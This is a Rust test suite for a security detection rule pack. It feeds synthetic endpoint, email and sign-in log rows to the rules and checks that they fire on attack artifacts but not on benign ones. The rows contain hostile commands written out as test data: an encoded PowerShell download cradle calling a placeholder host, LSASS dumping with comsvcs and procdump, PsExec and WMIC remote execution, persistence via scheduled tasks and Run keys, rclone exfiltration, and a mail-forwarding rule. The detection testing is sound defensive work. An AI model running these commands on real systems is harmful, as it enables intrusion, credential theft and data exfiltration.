//! The built-in pack: it loads completely, every rule is well-formed and converts to KQL, and the
//! rules fire on the demo tenant's attack artifacts (Defender-shaped rows) but not on look-alike
//! benign rows.

use std::sync::OnceLock;

use bulwark_detect::builtin::builtin_rules;
use bulwark_detect::{AlertKind, RuleSet, to_kql};
use bulwark_model::{Entity, EntityKind};
use serde_json::{Map, Value, json};

fn pack() -> &'static RuleSet {
    static PACK: OnceLock<RuleSet> = OnceLock::new();
    PACK.get_or_init(|| builtin_rules().0)
}

fn obj(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        other => panic!("test row must be an object: {other}"),
    }
}

/// Titles of the rules that fire on a row.
fn hits(table: &str, row: Value) -> Vec<String> {
    pack().evaluate_row(table, &obj(row)).into_iter().map(|a| a.title).collect()
}

fn assert_hit(table: &str, row: Value, title: &str) {
    let h = hits(table, row.clone());
    assert!(h.iter().any(|t| t == title), "`{title}` did not fire on {table} {row}; fired: {h:?}");
}

fn assert_no_hit(table: &str, row: Value, title: &str) {
    let h = hits(table, row.clone());
    assert!(!h.iter().any(|t| t == title), "`{title}` fired on benign {table} {row}");
}

fn utf16le_base64(s: &str) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    bulwark_detect::kql::base64(&bytes)
}

fn process(cmd: &str, image: &str, parent: &str) -> Value {
    let file = image.rsplit('\\').next().unwrap_or(image);
    json!({
        "Timestamp": "2026-11-20T09:14:03Z", "DeviceName": "ws-fin-07.contoso.local", "AccountName": "jdoe",
        "ActionType": "ProcessCreated", "FileName": file, "FolderPath": image, "ProcessCommandLine": cmd,
        "InitiatingProcessFolderPath": parent,
        "InitiatingProcessFileName": parent.rsplit('\\').next().unwrap_or(parent),
        "SHA256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    })
}

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

#[test]
fn pack_loads_completely_with_metadata() {
    let (rules, report) = builtin_rules();
    assert!(report.failed.is_empty(), "failures: {:?}", report.failed);
    assert!(report.unmapped.is_empty(), "unmapped: {:?}", report.unmapped);
    assert!(rules.len() >= 50, "only {} rules", rules.len());
    let mut ids = std::collections::HashSet::new();
    for info in rules.infos() {
        assert_eq!(info.author.as_deref(), Some("Bulwark"), "{}", info.title);
        assert!(info.level.is_some(), "{} has no level", info.title);
        assert!(
            info.description.as_deref().is_some_and(|d| d.len() > 80),
            "{} needs a real description",
            info.title
        );
        assert!(
            info.tags.iter().any(|t| bulwark_detect::rules::technique_of(t).is_some()),
            "{} has no ATT&CK technique tag",
            info.title
        );
        assert!(ids.insert(info.id.clone()), "duplicate id {}", info.id);
    }
}

#[test]
fn every_builtin_rule_converts_to_kql() {
    let rules = pack();
    for rule in rules.parsed_rules() {
        let kql = to_kql(rule).unwrap_or_else(|e| panic!("{}: {e}", rule.title));
        assert!(kql.contains("// Author: Bulwark"), "{kql}");
        assert!(kql.contains("Detection Rule License (DRL) 1.1"), "{kql}");
        assert!(kql.contains("| where "), "{kql}");
    }
    assert!(!rules.correlation_rules().is_empty());
    let correlation_names: Vec<String> =
        rules.correlation_rules().iter().filter_map(|c| c.name.clone()).collect();
    for corr in rules.correlation_rules() {
        let result = bulwark_detect::correlation_to_kql(corr, rules.parsed_rules());
        // Chained correlations (a correlation over a correlation) have no KQL form yet: the
        // conversion must say so rather than produce a wrong query.
        if corr.rules.iter().any(|r| correlation_names.contains(r)) {
            let err = result.expect_err("chained correlations are not converted yet");
            assert!(err.to_string().contains("unsupported"), "{err}");
            continue;
        }
        let kql = result.unwrap_or_else(|e| panic!("{}: {e}", corr.title));
        assert!(kql.contains("// Author: Bulwark"), "{kql}");
        assert!(kql.contains("| summarize "), "{kql}");
        if corr.title.starts_with("MFA Method Registered") {
            // The alias maps `user` to each rule's own column.
            assert!(kql.contains("user = UserPrincipalName"), "{kql}");
            assert!(kql.contains("user = Identity"), "{kql}");
        }
        if corr.title.starts_with("Password Spray") {
            eprintln!("{kql}");
            assert!(kql.contains("SigninLogs\n"), "{kql}");
            assert!(kql.contains("ValueCount = dcount(UserPrincipalName)"), "{kql}");
            assert!(kql.contains("by IPAddress, Window = bin(TimeGenerated, 1800s)"), "{kql}");
            assert!(kql.contains("| where ValueCount >= 10"), "{kql}");
        }
        if corr.title.starts_with("Periodic Connections") {
            eprintln!("{kql}");
            assert!(kql.contains("union\n"), "{kql}");
            assert!(kql.contains("Computer = DeviceName"), "{kql}");
            assert!(kql.contains("DestinationIp = RemoteIP"), "{kql}");
        }
    }
}

#[test]
fn macro_phish_delivery() {
    let att = |file: &str, rcpt: &str| {
        json!({"Timestamp": "2026-11-20T08:01:00Z", "FileName": file, "FileType": "docm",
               "SenderFromAddress": "billing@fabrikam-invoices.com", "RecipientEmailAddress": rcpt,
               "SHA256": "3c9a1f0e5b7d2a4c6e8f0a1b3c5d7e9f1a2b3c4d5e6f708192a3b4c5d6e7f809", "NetworkMessageId": "m1"})
    };
    assert_hit(
        "EmailAttachmentInfo",
        att("Invoice_8812.docm", "a@contoso.com"),
        "Macro-Enabled Office Attachment Received",
    );
    assert_no_hit(
        "EmailAttachmentInfo",
        att("Invoice_8812.docx", "a@contoso.com"),
        "Macro-Enabled Office Attachment Received",
    );

    let mut c = pack().correlator().expect("correlations compile");
    let mut fired = Vec::new();
    for (i, r) in ["a@contoso.com", "b@contoso.com", "c@contoso.com"].iter().enumerate() {
        let mut row = obj(att("Invoice_8812.docm", r));
        row.insert("TimeGenerated".into(), json!(format!("2026-11-20T08:0{i}:00Z")));
        fired.extend(c.process_row("EmailAttachmentInfo", &row));
    }
    assert!(
        fired.iter().any(|a| a.kind == AlertKind::Correlation
            && a.title == "Same Macro Attachment Delivered To Several Recipients"),
        "no fan-out correlation: {:?}",
        fired.iter().map(|a| &a.title).collect::<Vec<_>>()
    );

    let email = json!({"Timestamp": "2026-11-20T08:00:00Z", "EmailDirection": "Inbound", "DeliveryAction": "Delivered",
                       "PhishFilterVerdict": "Phish", "Subject": "Overdue invoice", "AttachmentCount": 1,
                       "RecipientEmailAddress": "a@contoso.com", "SenderFromAddress": "billing@fabrikam-invoices.com"});
    assert_hit("EmailEvents", email.clone(), "Malicious Email Delivered To Inbox");
    assert_hit(
        "EmailEvents",
        email,
        "External Email With An Invoice-Style Subject And Attachments Delivered",
    );
    let clean = json!({"EmailDirection": "Inbound", "DeliveryAction": "Delivered", "PhishFilterVerdict": "Not phish",
                       "Subject": "Lunch", "AttachmentCount": 0});
    assert_no_hit("EmailEvents", clean, "Malicious Email Delivered To Inbox");

    let click = json!({"ActionType": "ClickAllowed", "ThreatTypes": "Phish", "Url": "http://198.51.100.10/a.ps1",
                       "AccountUpn": "a@contoso.com", "IPAddress": "203.0.113.9"});
    assert_hit("UrlClickEvents", click.clone(), "User Clicked Through A Flagged URL");
    assert_hit("UrlClickEvents", click, "Click On URL Serving A Script Or Macro Document");
}

#[test]
fn word_spawning_hidden_encoded_download_cradle() {
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.10/a.ps1')";
    let cmd = format!("powershell.exe -nop -w hidden -enc {}", utf16le_base64(cradle));
    let row = process(&cmd, POWERSHELL, WORD);
    for title in [
        "Office Application Spawned A Shell Or Script Host",
        "Hidden Encoded PowerShell Command",
        "Encoded PowerShell Hiding A Download Cradle",
    ] {
        assert_hit("DeviceProcessEvents", row.clone(), title);
    }
    let alerts = pack().evaluate_row("DeviceProcessEvents", &obj(row));
    let a = alerts.iter().find(|a| a.level.as_deref() == Some("critical")).expect("critical alert");
    assert!(a.techniques.contains(&"T1059.001".to_string()));
    assert!(a.entities.contains(&Entity::new(EntityKind::Device, "ws-fin-07.contoso.local")));
    assert!(a.entities.contains(&Entity::new(EntityKind::User, "jdoe")));
    assert!(a.entities.iter().any(|e| e.kind == EntityKind::FileHash));
    assert!(a.entities.iter().any(|e| e.kind == EntityKind::Process));

    let benign = process(r"powershell.exe -File C:\Scripts\inventory.ps1", POWERSHELL, EXPLORER);
    for title in [
        "Office Application Spawned A Shell Or Script Host",
        "Hidden Encoded PowerShell Command",
        "Encoded PowerShell Hiding A Download Cradle",
        "PowerShell Download Cradle",
    ] {
        assert_no_hit("DeviceProcessEvents", benign.clone(), title);
    }
    let plain = process(&format!("powershell.exe -c \"{cradle}\""), POWERSHELL, EXPLORER);
    assert_hit("DeviceProcessEvents", plain, "PowerShell Download Cradle");
}

#[test]
fn beaconing_from_masquerading_binary() {
    let conn = |ip: &str, minute: u32| {
        json!({"Timestamp": format!("2026-11-20T10:{minute:02}:00Z"), "TimeGenerated": format!("2026-11-20T10:{minute:02}:00Z"),
               "DeviceName": "ws-fin-07", "ActionType": "ConnectionSuccess", "RemoteIP": ip, "RemotePort": 443,
               "LocalIP": "10.0.4.17", "InitiatingProcessFolderPath": r"C:\ProgramData\svchost32.exe",
               "InitiatingProcessFileName": "svchost32.exe"})
    };
    assert_hit(
        "DeviceNetworkEvents",
        conn("203.0.113.50", 0),
        "Binary In A User-Writable Folder Connecting Out",
    );
    assert_no_hit(
        "DeviceNetworkEvents",
        conn("10.0.0.5", 0),
        "Binary In A User-Writable Folder Connecting Out",
    );
    let mut inbound = obj(conn("203.0.113.50", 0));
    inbound.insert("ActionType".into(), json!("InboundConnectionAccepted"));
    assert!(
        !pack()
            .evaluate_row("DeviceNetworkEvents", &inbound)
            .iter()
            .any(|a| a.title == "Binary In A User-Writable Folder Connecting Out")
    );

    let mut c = pack().correlator().expect("correlations compile");
    let mut beacon = false;
    for m in 0..12 {
        beacon |= c
            .process_row("DeviceNetworkEvents", &obj(conn("203.0.113.50", m * 5)))
            .iter()
            .any(|a| {
                a.title == "Periodic Connections From PowerShell Or A Dropped Binary (Beaconing)"
            });
    }
    assert!(beacon, "beaconing correlation did not fire");

    let ps = json!({"DeviceName": "ws-fin-07", "ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.50",
                    "RemotePort": 8080, "InitiatingProcessFolderPath": POWERSHELL});
    assert_hit("DeviceNetworkEvents", ps, "PowerShell Connecting To An External Address");

    let proc_row =
        process(r"C:\ProgramData\svchost32.exe", r"C:\ProgramData\svchost32.exe", EXPLORER);
    assert_hit(
        "DeviceProcessEvents",
        proc_row,
        "Look-Alike System Binary In A User-Writable Folder",
    );
    let real = process(
        r"C:\Windows\System32\svchost.exe -k netsvcs",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\services.exe",
    );
    assert_no_hit(
        "DeviceProcessEvents",
        real.clone(),
        "Look-Alike System Binary In A User-Writable Folder",
    );
    assert_no_hit(
        "DeviceProcessEvents",
        real,
        "Windows System Process Name Running From The Wrong Folder",
    );
}

#[test]
fn lsass_credential_dumping() {
    let comsvcs = process(
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full",
        r"C:\Windows\System32\rundll32.exe",
        POWERSHELL,
    );
    assert_hit("DeviceProcessEvents", comsvcs, "LSASS Dumped With Comsvcs MiniDump");
    let procdump = process(
        r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp",
        r"C:\ProgramData\procdump64.exe",
        POWERSHELL,
    );
    assert_hit("DeviceProcessEvents", procdump, "ProcDump Dumping LSASS Memory");
    let procdump_other = process(
        r"procdump64.exe -accepteula -ma notepad.exe",
        r"C:\Tools\procdump64.exe",
        POWERSHELL,
    );
    assert_no_hit("DeviceProcessEvents", procdump_other, "ProcDump Dumping LSASS Memory");

    let open = |src: &str| {
        json!({"DeviceName": "ws-fin-07", "ActionType": "OpenProcessApiCall", "FileName": "lsass.exe",
               "FolderPath": r"C:\Windows\System32\lsass.exe", "InitiatingProcessFolderPath": src})
    };
    assert_hit(
        "DeviceEvents",
        open(r"C:\ProgramData\svchost32.exe"),
        "Process Opened A Handle To LSASS",
    );
    assert_no_hit(
        "DeviceEvents",
        open(r"C:\Windows\System32\svchost.exe"),
        "Process Opened A Handle To LSASS",
    );
    let mut other_action = obj(open(r"C:\ProgramData\svchost32.exe"));
    other_action.insert("ActionType".into(), json!("CreateRemoteThreadApiCall"));
    assert!(
        !pack()
            .evaluate_row("DeviceEvents", &other_action)
            .iter()
            .any(|a| a.title == "Process Opened A Handle To LSASS")
    );

    let dump_file = json!({"ActionType": "FileCreated", "FolderPath": r"C:\Windows\Temp\lsass.dmp", "FileName": "lsass.dmp",
                           "InitiatingProcessFolderPath": r"C:\Windows\System32\rundll32.exe"});
    assert_hit("DeviceFileEvents", dump_file, "LSASS Dump File Written");
}

#[test]
fn lateral_movement_psexec_wmi_logons() {
    let psexec = process(
        r"PsExec64.exe \\SRV-FS01 -accepteula -s cmd.exe",
        r"C:\ProgramData\PsExec64.exe",
        POWERSHELL,
    );
    assert_hit("DeviceProcessEvents", psexec, "PsExec Launched Against A Remote Host");
    let local =
        process(r"PsExec64.exe -accepteula -s cmd.exe", r"C:\ProgramData\PsExec64.exe", POWERSHELL);
    assert_no_hit("DeviceProcessEvents", local, "PsExec Launched Against A Remote Host");

    let svc = json!({"DeviceName": "srv-fs01", "ActionType": "ServiceInstalled", "FileName": "PSEXESVC.exe",
                     "FolderPath": r"C:\Windows\PSEXESVC.exe", "AdditionalFields": {"ServiceName": "PSEXESVC", "ServiceStartType": 3}});
    assert_hit(
        "DeviceEvents",
        svc,
        "Service Installed From A Suspicious Path Or Named Like A Remote Execution Tool",
    );
    let benign_svc = json!({"DeviceName": "srv-fs01", "ActionType": "ServiceInstalled", "FileName": "vmtoolsd.exe",
                            "FolderPath": r"C:\Program Files\VMware\vmtoolsd.exe", "AdditionalFields": {"ServiceName": "VMTools"}});
    assert_no_hit(
        "DeviceEvents",
        benign_svc,
        "Service Installed From A Suspicious Path Or Named Like A Remote Execution Tool",
    );

    let sec = json!({"TimeGenerated": "2026-11-20T11:00:00Z", "Computer": "SRV-FS01", "EventID": 7045, "ServiceName": "PSEXESVC",
                     "Channel": "System"});
    assert_hit("SecurityEvent", sec, "PsExec Service Installed (System Event 7045)");
    let raw = json!({"TimeGenerated": "2026-11-20T11:00:00Z", "Computer": "SRV-FS01", "EventID": 7045, "Channel": "System",
                     "Provider": "Service Control Manager", "EventData": {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}});
    assert_hit("WindowsEvent", raw.clone(), "PsExec Service Installed (System Event 7045)");
    let mut wrong_channel = obj(raw);
    wrong_channel.insert("Channel".into(), json!("Application"));
    assert!(
        !pack()
            .evaluate_row("WindowsEvent", &wrong_channel)
            .iter()
            .any(|a| a.title.starts_with("PsExec Service"))
    );

    let wmic = process(
        r"wmic /node:SRV-FS01 process call create C:\ProgramData\svchost32.exe",
        r"C:\Windows\System32\wbem\WMIC.exe",
        POWERSHELL,
    );
    assert_hit("DeviceProcessEvents", wmic, "WMIC Remote Process Creation");

    let mut c = pack().correlator().expect("correlations compile");
    let mut fanout = false;
    for (i, dev) in ["srv-fs01", "srv-db01", "srv-app02"].iter().enumerate() {
        let row = json!({"TimeGenerated": format!("2026-11-20T11:0{i}:00Z"), "DeviceName": dev, "ActionType": "LogonSuccess",
                         "LogonType": "Network", "IsLocalAdmin": true, "AccountName": "adm-jdoe", "RemoteIP": "10.0.4.17"});
        fanout |= c
            .process_row("DeviceLogonEvents", &obj(row))
            .iter()
            .any(|a| a.title == "One Source Logging On Over The Network To Several Devices");
    }
    assert!(fanout, "fan-out correlation did not fire");
}

#[test]
fn persistence_task_and_run_key() {
    let task = process(
        r#"schtasks /create /tn "OneDriveUpdate" /tr "C:\ProgramData\updater.exe" /sc onlogon /ru SYSTEM"#,
        r"C:\Windows\System32\schtasks.exe",
        POWERSHELL,
    );
    assert_hit(
        "DeviceProcessEvents",
        task.clone(),
        "Scheduled Task Created To Run As SYSTEM Or At Logon From A User-Writable Path",
    );
    assert_hit("DeviceProcessEvents", task, "Scheduled Task Masquerading As A Vendor Updater");
    let vendor = process(
        r#"schtasks /create /tn "OneDriveUpdate" /tr "C:\Program Files\Microsoft OneDrive\OneDriveStandaloneUpdater.exe" /sc daily"#,
        r"C:\Windows\System32\schtasks.exe",
        r"C:\Program Files\Microsoft OneDrive\OneDrive.exe",
    );
    assert_no_hit("DeviceProcessEvents", vendor, "Scheduled Task Masquerading As A Vendor Updater");

    let run = |data: &str, proc_path: &str| {
        json!({"DeviceName": "ws-fin-07", "ActionType": "RegistryValueSet",
               "RegistryKey": r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
               "RegistryValueName": "Updater", "RegistryValueData": data, "InitiatingProcessFolderPath": proc_path})
    };
    let bad = run(r"C:\ProgramData\updater.exe", POWERSHELL);
    assert_hit("DeviceRegistryEvents", bad.clone(), "Run Key Points To A User-Writable Folder");
    assert_hit("DeviceRegistryEvents", bad.clone(), "Run Key Modified By A Script Host Or Shell");
    let good = run(
        r#""C:\Program Files\Vendor\agent.exe" /background"#,
        r"C:\Windows\System32\msiexec.exe",
    );
    assert_no_hit("DeviceRegistryEvents", good.clone(), "Run Key Points To A User-Writable Folder");
    assert_no_hit("DeviceRegistryEvents", good, "Run Key Modified By A Script Host Or Shell");
    let mut deleted = obj(bad);
    deleted.insert("ActionType".into(), json!("RegistryValueDeleted"));
    assert!(
        !pack()
            .evaluate_row("DeviceRegistryEvents", &deleted)
            .iter()
            .any(|a| a.title.starts_with("Run Key"))
    );
}

#[test]
fn staging_and_exfiltration() {
    let seven = process(
        r"7z.exe a -pInfected123 C:\ProgramData\backup.7z C:\Shares\Finance\*",
        r"C:\ProgramData\7z.exe",
        POWERSHELL,
    );
    assert_hit("DeviceProcessEvents", seven.clone(), "Archive Created With A Password");
    assert_hit("DeviceProcessEvents", seven, "Archive Of A Network Share Or Sensitive Folder");
    let extract = process(
        r"7z.exe x C:\Users\jdoe\Downloads\photos.7z -oC:\Users\jdoe\Pictures",
        r"C:\Program Files\7-Zip\7z.exe",
        EXPLORER,
    );
    assert_no_hit("DeviceProcessEvents", extract, "Archive Created With A Password");

    let rclone = process(
        r"rclone.exe copy C:\ProgramData\backup.7z remote: --no-check-certificate",
        r"C:\ProgramData\rclone.exe",
        POWERSHELL,
    );
    assert_hit("DeviceProcessEvents", rclone, "Rclone Copying Data To A Remote");
    let rclone_version = process(r"rclone.exe version", r"C:\ProgramData\rclone.exe", POWERSHELL);
    assert_no_hit("DeviceProcessEvents", rclone_version, "Rclone Copying Data To A Remote");

    let fw = |dst: &str, bytes: u64| {
        json!({"DeviceVendor": "Palo Alto Networks", "SourceIP": "10.0.4.17", "DestinationIP": dst,
                                             "DestinationPort": 443, "SentBytes": bytes, "DeviceAction": "allow"})
    };
    assert_hit(
        "CommonSecurityLog",
        fw("198.51.100.23", 2_500_000_000),
        "Large Outbound Transfer To An External Address",
    );
    assert_no_hit(
        "CommonSecurityLog",
        fw("198.51.100.23", 40_000),
        "Large Outbound Transfer To An External Address",
    );
    assert_no_hit(
        "CommonSecurityLog",
        fw("10.0.9.9", 2_500_000_000),
        "Large Outbound Transfer To An External Address",
    );
}

#[test]
fn password_spray_then_success_then_forwarding_rule() {
    let mut c = pack().correlator().expect("correlations compile");
    let mut titles = Vec::new();
    for i in 0..12 {
        let row = json!({"TimeGenerated": format!("2026-11-20T07:{:02}:00Z", i * 2), "ResultType": "50126",
                         "UserPrincipalName": format!("user{i}@contoso.com"), "IPAddress": "198.51.100.77",
                         "AppDisplayName": "Office 365 Exchange Online"});
        titles.extend(
            c.process_row("SigninLogs", &obj(row))
                .into_iter()
                .filter(|a| a.kind == AlertKind::Correlation)
                .map(|a| a.title),
        );
    }
    assert!(
        titles.iter().any(|t| t == "Password Spray Against Many Accounts From One IP"),
        "{titles:?}"
    );
    let ok = json!({"TimeGenerated": "2026-11-20T07:30:00Z", "ResultType": "0", "UserPrincipalName": "user7@contoso.com",
                    "IPAddress": "198.51.100.77"});
    let after: Vec<String> =
        c.process_row("SigninLogs", &obj(ok)).into_iter().map(|a| a.title).collect();
    assert!(
        after.iter().any(|t| t == "Successful Sign-In From An IP That Just Failed Many Times"),
        "{after:?}"
    );

    // Few users from one IP is not a spray.
    let mut quiet = pack().correlator().expect("correlations compile");
    let mut spray = false;
    for i in 0..4 {
        let row = json!({"TimeGenerated": format!("2026-11-20T07:0{i}:00Z"), "ResultType": "50126",
                         "UserPrincipalName": format!("user{i}@contoso.com"), "IPAddress": "198.51.100.78"});
        spray |= quiet
            .process_row("SigninLogs", &obj(row))
            .iter()
            .any(|a| a.title.starts_with("Password Spray"));
    }
    assert!(!spray);

    let rule = json!({"TimeGenerated": "2026-11-20T07:40:00Z", "Operation": "New-InboxRule", "UserId": "user7@contoso.com",
                      "ClientIP": "198.51.100.77",
                      "Parameters": r#"[{"Name":"ForwardTo","Value":"drop@proton-mail.example"},{"Name":"Name","Value":"."}]"#});
    assert_hit("OfficeActivity", rule, "Inbox Rule Forwarding Or Redirecting Mail");
    let move_rule = json!({"Operation": "New-InboxRule", "UserId": "user7@contoso.com",
                           "Parameters": r#"[{"Name":"MoveToFolder","Value":"Newsletters"}]"#});
    assert_no_hit("OfficeActivity", move_rule, "Inbox Rule Forwarding Or Redirecting Mail");
}

#[test]
fn commodity_malware_quarantined_is_low() {
    let av = json!({"DeviceName": "ws-hr-02", "ActionType": "AntivirusDetection", "FileName": "invoice.exe",
                    "FolderPath": r"C:\Users\kim\Downloads\invoice.exe",
                    "AdditionalFields": {"ThreatName": "Trojan:Win32/AgentTesla", "Action": "Quarantine"}});
    let alerts = pack().evaluate_row("DeviceEvents", &obj(av));
    let titles: Vec<&str> = alerts.iter().map(|a| a.title.as_str()).collect();
    assert!(titles.contains(&"Antivirus Detected Malware"), "{titles:?}");
    assert!(!titles.contains(&"Antivirus Detection Not Remediated"), "{titles:?}");
    let low =
        alerts.iter().find(|a| a.title == "Antivirus Detected Malware").map(|a| a.level.clone());
    assert_eq!(low, Some(Some("low".to_string())));
}

#[test]
fn demo_story_becomes_one_multi_stage_incident() {
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.10/a.ps1')";
    let mut rows: Vec<(&str, Value)> = vec![
        (
            "EmailAttachmentInfo",
            json!({"TimeGenerated": "2026-11-20T08:01:00Z", "FileName": "Invoice_8812.docm",
            "RecipientEmailAddress": "jdoe@contoso.com", "SenderFromAddress": "billing@fabrikam-invoices.com", "SHA256": "aa11"}),
        ),
        (
            "DeviceProcessEvents",
            process(
                &format!("powershell.exe -nop -w hidden -enc {}", utf16le_base64(cradle)),
                POWERSHELL,
                WORD,
            ),
        ),
        (
            "DeviceProcessEvents",
            process(
                r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full",
                r"C:\Windows\System32\rundll32.exe",
                POWERSHELL,
            ),
        ),
        (
            "DeviceProcessEvents",
            process(
                r"PsExec64.exe \\SRV-FS01 -accepteula -s cmd.exe",
                r"C:\ProgramData\PsExec64.exe",
                POWERSHELL,
            ),
        ),
        (
            "DeviceProcessEvents",
            process(
                r"rclone.exe copy C:\ProgramData\backup.7z remote:",
                r"C:\ProgramData\rclone.exe",
                POWERSHELL,
            ),
        ),
        (
            "DeviceEvents",
            json!({"TimeGenerated": "2026-11-21T15:00:00Z", "DeviceName": "ws-hr-02", "ActionType": "AntivirusDetection",
            "AdditionalFields": {"Action": "Quarantine"}}),
        ),
    ];
    for (i, (_, row)) in rows.iter_mut().enumerate().skip(1).take(4) {
        if let Some(m) = row.as_object_mut() {
            m.insert("TimeGenerated".into(), json!(format!("2026-11-20T09:{:02}:00Z", i * 10)));
        }
    }
    let mut c = pack().correlator().expect("correlations compile");
    let alerts: Vec<_> = rows.iter().flat_map(|(t, r)| c.process_row(t, &obj(r.clone()))).collect();
    let incidents = bulwark_detect::correlate(&alerts, &bulwark_detect::IncidentConfig::default());
    let main = incidents.iter().max_by_key(|i| i.alerts.len()).expect("an incident");
    for tactic in
        ["initial-access", "execution", "credential-access", "lateral-movement", "exfiltration"]
    {
        assert!(main.tactics.iter().any(|t| t == tactic), "{tactic} missing: {:?}", main.tactics);
    }
    assert_eq!(main.severity, "critical");
    assert!(main.id.starts_with("INC-"));
    // The unrelated commodity detection on another device stays its own incident.
    assert!(
        incidents
            .iter()
            .any(|i| i.alerts.len() == 1
                && alerts[i.alerts[0]].title == "Antivirus Detected Malware")
    );
    let again = bulwark_detect::correlate(&alerts, &bulwark_detect::IncidentConfig::default());
    assert_eq!(
        incidents.iter().map(|i| &i.id).collect::<Vec<_>>(),
        again.iter().map(|i| &i.id).collect::<Vec<_>>()
    );
}

#[test]
fn scripted_sign_in_then_new_mfa_method() {
    let signin = |upn: &str, agent: &str, t: &str| {
        obj(json!({"TimeGenerated": t, "ResultType": "0", "UserPrincipalName": upn,
                   "IPAddress": "185.220.101.47", "UserAgent": agent, "ClientAppUsed": "Other clients"}))
    };
    let register = |upn: &str, t: &str| {
        obj(json!({"TimeGenerated": t, "OperationName": "User registered security info",
                   "Identity": upn, "Category": "UserManagement",
                   "InitiatedBy": format!("{{\"user\":{{\"userPrincipalName\":\"{upn}\",\"ipAddress\":\"185.220.101.47\"}}}}")}))
    };
    let mut c = pack().correlator().expect("correlations compile");
    let first = c.process_row(
        "SigninLogs",
        &signin("mh@contoso.com", "python-requests/2.31.0", "2026-11-22T02:55:00Z"),
    );
    assert!(first.iter().any(|a| a.title == "Successful Sign-In From A Scripting Client"));
    // Someone else enrolling a phone is not the attacker's registration.
    let other = c.process_row("AuditLogs", &register("ok@contoso.com", "2026-11-22T03:00:00Z"));
    assert!(other.iter().all(|a| a.level.as_deref() == Some("informational")), "{other:?}");
    let fired = c.process_row("AuditLogs", &register("mh@contoso.com", "2026-11-22T03:25:00Z"));
    let alert = fired
        .iter()
        .find(|a| a.title == "MFA Method Registered After A Scripted Sign-In")
        .expect("correlation fires");
    // The audit row's initiator (in JSON) is an entity of the alert.
    assert!(alert.links.iter().any(|e| e.value == "mh@contoso.com"), "{:?}", alert.links);

    // A browser sign-in followed by a registration is onboarding.
    let mut quiet = pack().correlator().expect("correlations compile");
    let mut hits = quiet.process_row(
        "SigninLogs",
        &signin("new@contoso.com", "Mozilla/5.0", "2026-11-22T02:55:00Z"),
    );
    hits.extend(
        quiet.process_row("AuditLogs", &register("new@contoso.com", "2026-11-22T03:00:00Z")),
    );
    assert!(hits.iter().all(|a| a.level.as_deref() == Some("informational")), "{hits:?}");
}

#[test]
fn restricting_tables_drops_other_engines_but_keeps_rule_info() {
    let signin = obj(json!({"TimeGenerated": "2026-11-22T02:55:00Z", "ResultType": "0",
                            "UserPrincipalName": "mh@contoso.com", "UserAgent": "python-requests/2.31.0"}));
    let lsass = obj(process(
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\ProgramData\l.dmp full",
        r"C:\Windows\System32\rundll32.exe",
        POWERSHELL,
    ));
    // Restricted after loading: engines of other tables go.
    let mut after = builtin_rules().0;
    after.restrict_to_tables(["SigninLogs"]);
    // Restricted before loading: engines of other tables are never built.
    let mut before = RuleSet::new();
    before.restrict_to_tables(["SigninLogs"]);
    bulwark_detect::builtin::load_builtin(&mut before);
    for rules in [&after, &before] {
        assert_eq!(rules.tables(), vec!["SigninLogs"]);
        let hits = rules.evaluate_row("SigninLogs", &signin);
        assert!(hits.iter().any(|a| a.title == "Successful Sign-In From A Scripting Client"));
        assert!(rules.evaluate_row("DeviceProcessEvents", &lsass).is_empty());
        // The rule is still known, with every table its logsource maps to.
        let info = rules.infos().iter().find(|i| i.title == "LSASS Dumped With Comsvcs MiniDump");
        assert!(info.is_some_and(|i| i.tables.iter().any(|t| t == "DeviceProcessEvents")));
    }
    // The unrestricted pack does see the dump.
    assert!(!pack().evaluate_row("DeviceProcessEvents", &lsass).is_empty());
}

#[test]
fn linux_and_macos_rules_only_judge_unix_devices() {
    let mut rules = RuleSet::new();
    let report = rules.add_yaml(
        r#"
title: Space After Filename - macOS
id: b6e2a2e3-2d30-43b1-a4ea-071e36595690
logsource: {product: macos, category: process_creation}
detection:
    selection: {CommandLine|endswith: ' '}
    condition: selection
level: low
"#,
        "test",
    );
    assert_eq!(report.loaded, 1);
    let windows = obj(json!({"FolderPath": r"C:\Windows\System32\cmd.exe",
                             "ProcessCommandLine": r#""C:\Windows\system32\cmd.exe" "#}));
    assert!(rules.evaluate_row("DeviceProcessEvents", &windows).is_empty());
    let mac =
        obj(json!({"FolderPath": "/tmp/invoice.pdf ", "ProcessCommandLine": "/tmp/invoice.pdf "}));
    assert_eq!(rules.evaluate_row("DeviceProcessEvents", &mac).len(), 1);
    // The KQL says the same.
    let kql = to_kql(&rules.parsed_rules()[0]).expect("kql");
    assert!(kql.contains(r#"FolderPath startswith "/""#), "{kql}");
}
